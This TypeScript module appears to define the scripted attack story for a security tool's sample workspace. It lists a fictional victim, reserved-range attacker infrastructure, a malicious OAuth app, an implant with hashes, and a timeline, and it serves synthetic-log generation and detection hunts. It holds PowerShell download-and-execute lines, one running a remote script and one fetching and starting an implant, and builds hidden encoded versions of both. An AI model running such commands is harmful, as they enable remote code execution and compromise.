/**
 * The attack of the sample workspace as data: who, from where, with what, when. STORY.md tells it in words; the files of
 * `tables/` turn it into rows, `incidents.ts` into incidents; tests and the bundled hunts assert against it.
 * Addresses and domains are from ranges reserved for documentation (RFC 5737, RFC 2606). Times are offsets as `storyTime.ts` defines them.
 */
import { at, MINUTE, SECOND } from './storyTime';

/** Cloud operations manager; her password is guessed and her MFA prompt worn down. */
export const victim = { upn: 'nora.lindqvist@contoso.com', name: 'nora.lindqvist', workstation: 'WS-LON-007' } as const;
/** Accounts payable; opens the file that the stolen mailbox sends. */
export const secondVictim = { upn: 'tomas.rivera@contoso.com', name: 'tomas.rivera', workstation: 'WS-LON-014' } as const;
export const stolenServiceAccount = 'svc-backup';
export const stolenAdminAccount = 'adm-hkessler';
export const backdoorAccount = 'svc-wsync';

export const infrastructure = {
  sprayRange: '203.0.113.0/24',
  /** Last octets of the addresses that take part in the spray. */
  sprayOctets: [11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34],
  /** The address whose guess is right. */
  sprayHitIp: '203.0.113.29',
  sprayCountry: 'NL',
  /** The operator's own sign-ins. */
  operatorIp: '192.0.2.77',
  operatorCountry: 'PA',
  operatorCity: 'Panama City',
  commandDomain: 'cdn-edge-metrics.example',
  commandIp: '192.0.2.146',
  lureHost: 'files.cdn-edge-metrics.example',
  dropDomain: 'drop-eu7.bulkstore.example',
  dropIp: '192.0.2.201',
  forwardingAddress: 'ap-archive@contoso-invoices.example',
} as const;

export const hosts = {
  /** Azure VM `vm-app02`. */
  application: 'APP02',
  applicationVm: 'vm-app02',
  fileServer: 'FS01',
  domainController: 'DC01',
} as const;

export const maliciousApp = {
  name: 'DocuFlow Sync',
  appId: '6f1d2c9a-5b0e-4a57-9d83-2f4c8e7b1a60',
  servicePrincipalId: 'b2a7c4d1-93e8-4f06-8a5d-7c10e2f9d364',
  scope: 'offline_access User.Read Mail.Read Files.Read.All',
} as const;

export const inboxRule = { name: '.', words: 'invoice;payment;wire', folder: 'RSS Feeds' } as const;

export const lure = {
  subject: 'Overdue invoice 48213 - please confirm',
  url: `https://${infrastructure.lureHost}/inv/48213`,
  file: 'Invoice_48213.js',
  networkMessageId: '0c4be7f2-6a31-4d5e-b8f0-91d2a3c7e540',
} as const;

export const implant = {
  file: 'wtsync.exe',
  folder: 'C:\\ProgramData\\Telemetry',
  service: 'WinTelemetrySync',
  task: '\\Microsoft\\Windows\\Telemetry\\WinTelemetrySync',
  sha256: 'a1f4c86e0d3b97527be21c5fd08a9634e7725b1c40fd83a6915ce02b7d4f8a39',
  sha1: '5d2e8fa07c1b946e3f50a7d8c2b916e4073fda85',
  md5: '9b3c07e1f5a84d26b0e79c135fd2a864',
} as const;

/** PowerShell's -EncodedCommand is base64 of UTF-16LE. */
function encodedCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

export const workstationScript = `IEX (New-Object Net.WebClient).DownloadString('https://${infrastructure.commandDomain}/a/init.ps1')`;
export const serverScript = `$p='${implant.folder}\\${implant.file}';Invoke-WebRequest https://${infrastructure.commandDomain}/a/ws.bin -OutFile $p;Start-Process $p`;
export const workstationPowerShell = `powershell.exe -nop -w hidden -enc ${encodedCommand(workstationScript)}`;
export const serverPowerShell = `powershell.exe -NoProfile -NonInteractive -EncodedCommand ${encodedCommand(serverScript)}`;

export const times = {
  spray: { start: at(-3, '01:12'), hit: at(-3, '03:58:20'), end: at(-3, '04:37') },
  /** Interactive sign-in from the operator's country that asks for a second factor. */
  unusualSignIn: at(-3, '05:41:10'),
  mfaFatigue: { start: at(-3, '05:42:15'), approved: at(-3, '06:29:04') },
  mailboxRead: { start: at(-3, '06:35'), end: at(-3, '07:40') },
  inboxRule: at(-3, '06:47:30'),
  consent: at(-3, '07:12:05'),
  lureSent: at(-2, '09:18:40'),
  lureClicked: at(-2, '09:24:12'),
  lureRun: at(-2, '09:26:05'),
  workstationBeacon: { start: at(-2, '09:31:00'), end: at(-1, '10:40'), interval: 10 * MINUTE, jitter: 30 * SECOND },
  cloudDownload: { start: at(-2, '21:10'), end: at(-2, '21:40') },
  runCommand: { start: at(-2, '22:05:02'), accepted: at(-2, '22:05:03'), succeeded: at(-2, '22:05:41') },
  serverRun: at(-2, '22:05:20'),
  serverBeacon: { start: at(-2, '22:10:00'), end: at(-1, '14:05'), interval: 5 * MINUTE, jitter: 15 * SECOND },
  firstDump: at(-2, '23:20:14'),
  lateralMovement: { start: at(-1, '00:36:10'), end: at(-1, '00:52') },
  remoteService: at(-1, '00:37:02'),
  secondDump: at(-1, '01:08:33'),
  remoteDesktop: at(-1, '01:25:40'),
  directoryCopy: at(-1, '01:38:12'),
  backdoorCreated: at(-1, '01:44:50'),
  backdoorPrivileged: at(-1, '01:45:27'),
  scheduledTask: at(-1, '01:52:08'),
  archive: { start: at(-1, '02:14:00'), end: at(-1, '02:38') },
  upload: { start: at(-1, '02:41:00'), end: at(-1, '03:34') },
  logCleared: at(-1, '03:41:19'),
  response: {
    accountDisabled: at(-1, '09:12:30'),
    appDisabled: at(-1, '09:20:11'),
    workstationIsolated: at(-1, '10:45'),
    serverIsolated: at(-1, '14:05'),
  },
} as const;

/** How many there are; the generators make exactly these. */
export const counts = {
  sprayedAccounts: 62,
  sprayAttemptsEach: 3,
  lockedOut: 14,
  mfaDenials: 12,
  mailboxReads: 24,
  filesDownloaded: 340,
  lureRecipients: 6,
  archiveParts: 6,
  archivePartBytes: 524_288_000,
  uploadSessions: 6,
} as const;
